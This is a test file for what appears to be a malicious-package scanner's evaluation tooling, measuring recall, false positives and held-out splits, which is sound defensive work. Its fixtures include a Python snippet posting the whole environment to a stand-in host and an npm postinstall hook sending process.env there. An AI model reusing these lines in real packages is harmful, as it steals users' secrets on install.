// `gatehouse eval` over a small labelled corpus built here: recall, false positives, the held-out split, inert misses, precision.
import { mkdtempSync, mkdirSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { DEFAULT_ARCHIVE_LIMITS } from '../../src/core/archive-limits.ts'
import { DEFAULT_THRESHOLDS } from '../../src/core/verdict.ts'
import { ECOSYSTEMS } from '../../src/ecosystems.ts'
import { drawSamples, listSamples, readReviews } from '../../src/scanning/corpus.ts'
import { initEngine, type ScanReport } from '../../src/scanning/engine.ts'
import { evaluate, examinedCampaign, examinedHalf, inUntouchedHalf, type Evaluation } from '../../src/scanning/evaluate.ts'
import { sdistTarGz } from '../helpers/python-dists.ts'
import { npmTarball } from '../helpers/tarballs.ts'

const STEALER = `import os, requests\nrequests.post('https://collect.example.net/x', json=dict(os.environ))\n`
const LIBRARY = `def add(a, b):\n    return a + b\n`
const CLIENT = `import requests\ndef fetch(url):\n    return requests.get(url).json()\n`

let root: string
let result: Evaluation

async function write(dir: string, name: string, version: string, bytes: Buffer, label: Record<string, unknown>): Promise<void> {
  const file = `${name}/${version}/${name}-${version}${label.ecosystem === 'npm' ? '.tgz' : '.tar.gz'}`
  mkdirSync(join(dir, name, version), { recursive: true })
  writeFileSync(join(dir, file), bytes)
  writeFileSync(join(dir, 'labels.jsonl'), `${JSON.stringify({ ...label, name, version, file })}\n`, { flag: 'a' })
}

beforeAll(async () => {
  await initEngine()
  root = mkdtempSync(join(tmpdir(), 'gatehouse-eval-'))
  const malicious = join(root, 'malicious')
  const benign = join(root, 'benign')
  mkdirSync(malicious)
  mkdirSync(benign)
  // malicious: two caught before the split, one caught after it, an empty placeholder and a clean client after it
  await write(malicious, 'stealer-one', '1.0.0', await sdistTarGz('stealer-one', '1.0.0', { 'stealer_one/__init__.py': STEALER }), { ecosystem: 'pypi', date: '2022-05-01T00:00:00Z' })
  await write(malicious, 'stealer-two', '1.0.0', await npmTarball('stealer-two', '1.0.0', { 'index.js': `require('https').request({ hostname: 'collect.example.net', method: 'POST' }).end(JSON.stringify(process.env))\n` }, { scripts: { postinstall: 'node index.js' } }), { ecosystem: 'npm' })
  await write(malicious, 'stealer-three', '1.0.0', await sdistTarGz('stealer-three', '1.0.0', { 'stealer_three/__init__.py': STEALER }), { ecosystem: 'pypi', date: '2023-06-01T00:00:00Z' })
  await write(malicious, 'placeholder', '0.0.1', await sdistTarGz('placeholder', '0.0.1', { 'placeholder/__init__.py': '' }), { ecosystem: 'pypi', date: '2023-07-01T00:00:00Z' })
  await write(malicious, 'clean-client', '1.0.0', await sdistTarGz('clean-client', '1.0.0', { 'clean_client/__init__.py': CLIENT }), { ecosystem: 'pypi', date: '2023-08-01T00:00:00Z' })
  // benign: three libraries, one of which the gate holds (it sends the environment)
  await write(benign, 'adder', '1.0.0', await sdistTarGz('adder', '1.0.0', { 'adder/__init__.py': LIBRARY }), { ecosystem: 'pypi' })
  await write(benign, 'fetcher', '2.0.0', await sdistTarGz('fetcher', '2.0.0', { 'fetcher/__init__.py': CLIENT }), { ecosystem: 'pypi' })
  await write(benign, 'reporter', '1.0.0', await sdistTarGz('reporter', '1.0.0', { 'reporter/__init__.py': STEALER }), { ecosystem: 'pypi' })
  const samples = [
    ...listSamples(malicious).map((sample) => ({ sample, label: 'malicious' as const })),
    ...listSamples(benign).map((sample) => ({ sample, label: 'benign' as const })),
  ]
  result = await evaluate(samples, { ecosystems: ECOSYSTEMS, limits: DEFAULT_ARCHIVE_LIMITS, thresholds: DEFAULT_THRESHOLDS, baseRate: 0.01, splitDate: '2023-03-01', splitHalf: true })
})

afterAll(() => rmSync(root, { recursive: true, force: true }))

describe('evaluate', () => {
  it('counts recall and false positives, and splits off what is dated after the split', () => {
    expect(result.malicious).toMatchObject({ total: 5, flagged: 3, rate: 0.6 })
    expect(result.benign).toMatchObject({ total: 3, flagged: 1 })
    expect(result.tuning).toMatchObject({ total: 2, flagged: 2, before: '2023-03-01' })
    expect(result.heldOut).toMatchObject({ total: 3, flagged: 1, since: '2023-03-01' })
    expect(result.heldOutExamined!.total + result.heldOutUntouched!.total).toBe(3)
    expect(result.heldOutExamined!.total).toBe(['stealer-three-1.0.0.tar.gz', 'placeholder-0.0.1.tar.gz', 'clean-client-1.0.0.tar.gz'].filter((f) => examinedHalf(f)).length)
    expect(result.malicious.ruleHits['exfiltrates-environment']).toBe(3)
  })

  it('tells misses whose code can do nothing by itself from misses that carry working code', () => {
    // the placeholder is inert; the clean client uses the network, so it is a miss of another kind
    expect(result.malicious.missedInert).toBe(1)
    expect(result.heldOut!.missedInert).toBe(1)
    expect(result.benign.missedInert).toBe(1)
    // recall on what can act: the held-out stealer caught, the clean client missed
    expect(result.heldOut!.actingRate).toBe(0.5)
  })

  it('computes precision at the base rate from recall and the false-positive rate', () => {
    const r = 0.6
    const f = 1 / 3
    expect(result.precisionAtBaseRate).toBeCloseTo((r * 0.01) / (r * 0.01 + f * 0.99), 4)
    expect(result.timing.count).toBe(8)
  })
})

describe('the untouched halves', () => {
  it('hold the held-out samples and campaigns outside the examined halves, and nothing else', () => {
    const names = Array.from({ length: 40 }, (_, i) => `/c/s${i}/s${i}-1.0.tar.gz`)
    const examined = names.find((p) => examinedHalf(p))!
    const untouched = names.find((p) => !examinedHalf(p))!
    const split = { splitDate: '2023-03-01', splitHalf: true }
    const late = { label: 'malicious' as const, date: '2024-01-01T00:00:00Z' }
    expect(inUntouchedHalf({ ...late, path: untouched }, split)).toBe(true)
    expect(inUntouchedHalf({ ...late, path: examined }, split)).toBe(false)
    expect(inUntouchedHalf({ ...late, path: untouched, date: '2022-01-01T00:00:00Z' }, split)).toBe(false)
    expect(inUntouchedHalf({ ...late, path: untouched }, { splitDate: '2023-03-01', splitHalf: false })).toBe(false)
    expect(inUntouchedHalf({ ...late, path: untouched, label: 'benign' }, split)).toBe(false)
    const ids = Array.from({ length: 40 }, (_, i) => `x${i}`)
    for (const campaign of [ids.find((c) => examinedCampaign(c))!, ids.find((c) => !examinedCampaign(c))!]) {
      expect(inUntouchedHalf({ label: 'malicious', path: examined, campaign, heldOutCampaign: true }, { splitHalf: true })).toBe(!examinedCampaign(campaign))
    }
  })
})

describe('a drawn sample of a corpus', () => {
  it('names samples by their path in the corpus, and draws the same ones for a seed whatever the order or the machine', () => {
    expect(listSamples(join(root, 'benign')).map((s) => s.id).sort()).toEqual(['adder/1.0.0/adder-1.0.0.tar.gz', 'fetcher/2.0.0/fetcher-2.0.0.tar.gz', 'reporter/1.0.0/reporter-1.0.0.tar.gz'])
    const corpus = Array.from({ length: 200 }, (_, i) => ({ id: `pkg-${i}/1.0.0/pkg-${i}-1.0.0.tgz`, where: `/somewhere/${i}` }))
    const ten = drawSamples(corpus, 10, 'draw-a')
    expect(ten).toHaveLength(10)
    expect(new Set(ten.map((s) => s.id)).size).toBe(10)
    expect(drawSamples([...corpus].reverse(), 10, 'draw-a')).toEqual(ten)
    expect(drawSamples(corpus.map((s) => ({ ...s, where: `/elsewhere/${s.id}` })), 10, 'draw-a').map((s) => s.id)).toEqual(ten.map((s) => s.id))
    // a larger draw keeps the smaller one; another seed draws others
    expect(drawSamples(corpus, 30, 'draw-a').slice(0, 10)).toEqual(ten)
    const other = drawSamples(corpus, 10, 'draw-b').map((s) => s.id)
    expect(other.filter((id) => ten.some((s) => s.id === id)).length).toBeLessThan(5)
    // not simply the first ones
    expect(ten.map((s) => s.id)).not.toEqual(corpus.slice(0, 10).map((s) => s.id))
    expect(drawSamples(corpus, 500, 'draw-a')).toHaveLength(200)
  })
})

describe('evaluate with campaigns held out', () => {
  it('reports held-out campaigns apart from the development set, per sample and per campaign', async () => {
    const dir = join(root, 'campaigns')
    mkdirSync(dir)
    // campaign a: a stealer and an empty placeholder; campaign b: one stealer
    await write(dir, 'camp-one', '1.0.0', await sdistTarGz('camp-one', '1.0.0', { 'camp_one/__init__.py': STEALER }), { ecosystem: 'pypi', cluster: 'a', date: '2024-03-01T00:00:00Z' })
    await write(dir, 'camp-two', '1.0.0', await sdistTarGz('camp-two', '1.0.0', { 'camp_two/__init__.py': '' }), { ecosystem: 'pypi', cluster: 'a', date: '2024-03-02T00:00:00Z' })
    await write(dir, 'camp-three', '1.0.0', await sdistTarGz('camp-three', '1.0.0', { 'camp_three/__init__.py': STEALER }), { ecosystem: 'pypi', cluster: 'b', date: '2024-04-01T00:00:00Z' })
    const samples = [
      ...listSamples(join(root, 'malicious')).map((sample) => ({ sample, label: 'malicious' as const, heldOutCampaign: false })),
      ...listSamples(dir).map((sample) => ({ sample, label: 'malicious' as const, heldOutCampaign: true })),
    ]
    expect(samples.filter((s) => s.heldOutCampaign).map((s) => s.sample.campaign)).toEqual(['a', 'a', 'b'])
    const r = await evaluate(samples, { ecosystems: ECOSYSTEMS, limits: DEFAULT_ARCHIVE_LIMITS, thresholds: DEFAULT_THRESHOLDS, baseRate: 0.01, splitDate: '2023-03-01', splitHalf: true })
    // the development figures are those of the development corpus alone, dated split included
    expect(r.malicious).toMatchObject({ total: 5, flagged: 3 })
    expect(r.heldOut).toMatchObject({ total: 3, flagged: 1 })
    // 2 of 3 samples; by campaign the mean of 1/2 and 1/1, both campaigns caught at least once
    expect(r.campaigns).toMatchObject({ total: 3, flagged: 2, missedInert: 1, campaignCount: 2, campaignsCaught: 2, campaignRate: 0.75 })
    expect(r.campaignsExamined!.campaignCount + r.campaignsUntouched!.campaignCount).toBe(2)
    expect(r.campaignsExamined!.campaignCount).toBe(['a', 'b'].filter((c) => examinedCampaign(c)).length)
  })
})

describe('evaluate with the dynamic stage', () => {
  it('runs it on what the static engine would publish, and counts what it flags', async () => {
    const samples = [
      ...listSamples(join(root, 'malicious')).map((sample) => ({ sample, label: 'malicious' as const })),
      ...listSamples(join(root, 'benign')).map((sample) => ({ sample, label: 'benign' as const })),
    ]
    const seen: string[] = []
    // a stand-in for the sandbox: it flags the clean client (its exported fetch would be called) and nothing else
    const run = async (artifact: { name: string }, _eco: unknown, report: ScanReport) => {
      seen.push(artifact.name)
      return artifact.name === 'clean-client' ? { ...report, verdict: 'hold' as const, score: 90 } : report
    }
    const r = await evaluate(samples, { ecosystems: ECOSYSTEMS, limits: DEFAULT_ARCHIVE_LIMITS, thresholds: DEFAULT_THRESHOLDS, baseRate: 0.01, dynamic: { run, concurrency: 2 } })
    // only what the static engine published ran: the placeholder, the clean client and two benign libraries
    expect(seen.sort()).toEqual(['adder', 'clean-client', 'fetcher', 'placeholder'])
    expect(r.malicious).toMatchObject({ total: 5, flagged: 4 })
    expect(r.benign).toMatchObject({ total: 3, flagged: 1 })
    expect(r.sandboxTiming).toMatchObject({ count: 4 })
  })
})

describe('evaluate with reviewers\' findings', () => {
  it('counts the misses reviewed as harmless apart, and only misses', async () => {
    const dir = join(root, 'malicious')
    const file = join(root, 'review.tsv')
    // the placeholder and the clean client are missed; the clean client is label noise, the placeholder left unread;
    // a flagged stealer reviewed as a probe stays a flagged sample
    writeFileSync(
      file,
      [
        '# id\tfinding\twhen\treason',
        'clean-client/1.0.0/clean-client-1.0.0.tar.gz\tclean-copy\tcall\tan ordinary HTTP client',
        'stealer-one/1.0.0/stealer-one-1.0.0.tar.gz\tprobe\timport\tread as a probe',
        'not-in-this-corpus/1.0/not-in-this-corpus-1.0.tar.gz\tharmful\tinstall\tanother corpus',
        '',
      ].join('\n'),
    )
    const byId = readReviews([file])
    expect(byId.size).toBe(3)
    const samples = listSamples(dir).map((sample) => ({ sample, label: 'malicious' as const }))
    const reviews = new Map(samples.filter((s) => byId.has(s.sample.id)).map((s) => [s.sample.path, byId.get(s.sample.id)!]))
    const r = await evaluate(samples, { ecosystems: ECOSYSTEMS, limits: DEFAULT_ARCHIVE_LIMITS, thresholds: DEFAULT_THRESHOLDS, baseRate: 0.01, reviews })
    expect(r.malicious).toMatchObject({ total: 5, flagged: 3, missedHarmless: 1, reviewedRate: 0.75 })
    // without reviews nothing is set apart
    expect(result.malicious).toMatchObject({ missedHarmless: 0, reviewedRate: 0.6 })
  })

  it('refuses a line whose finding is not one of the kinds', () => {
    const file = join(root, 'bad-review.tsv')
    writeFileSync(file, 'x/1/x-1.tar.gz\tmalicious\tinstall\twhy\n')
    expect(() => readReviews([file])).toThrow(/bad-review\.tsv:1/)
  })

  it('reads an audit beside the review as one: a second opinion that finds a sample harmful makes it harmful', () => {
    const review = join(root, 'two-review.tsv')
    const audit = join(root, 'two-audit.tsv')
    writeFileSync(review, 'a/1/a-1.tar.gz\tprobe\tinstall\twrites a marker\nc/1/c-1.tar.gz\tharmful\tcall\tsends a key\n')
    writeFileSync(audit, '# audit\nb/1/b-1.tar.gz\tharmful\timport\tposts the environment\na/1/a-1.tar.gz\tprobe\tinstall\tagreed\n')
    expect([...readReviews([review, audit])]).toEqual([
      ['a/1/a-1.tar.gz', 'probe'],
      ['c/1/c-1.tar.gz', 'harmful'],
      ['b/1/b-1.tar.gz', 'harmful'],
    ])
    // one reviewer's doubt outweighs another's harmless reading, in either order; two harmless kinds keep the first
    writeFileSync(audit, 'a/1/a-1.tar.gz\tharmful\tinstall\tread again\nc/1/c-1.tar.gz\tinert\tnever\tthe key is never sent\n')
    expect(Object.fromEntries(readReviews([review, audit]))).toEqual({ 'a/1/a-1.tar.gz': 'harmful', 'c/1/c-1.tar.gz': 'harmful' })
    writeFileSync(audit, 'a/1/a-1.tar.gz\tinert\tnever\tnothing runs\n')
    expect(readReviews([review, audit]).get('a/1/a-1.tar.gz')).toBe('probe')
    // one file judging a sample twice, differently, is a mistake in that file
    writeFileSync(audit, 'a/1/a-1.tar.gz\tinert\tnever\tnothing runs\na/1/a-1.tar.gz\tharmful\tinstall\tit does run\n')
    expect(() => readReviews([review, audit])).toThrow(/two-audit\.tsv:2: a\/1\/a-1\.tar\.gz is found harmful here and inert on line 1/)
  })
})
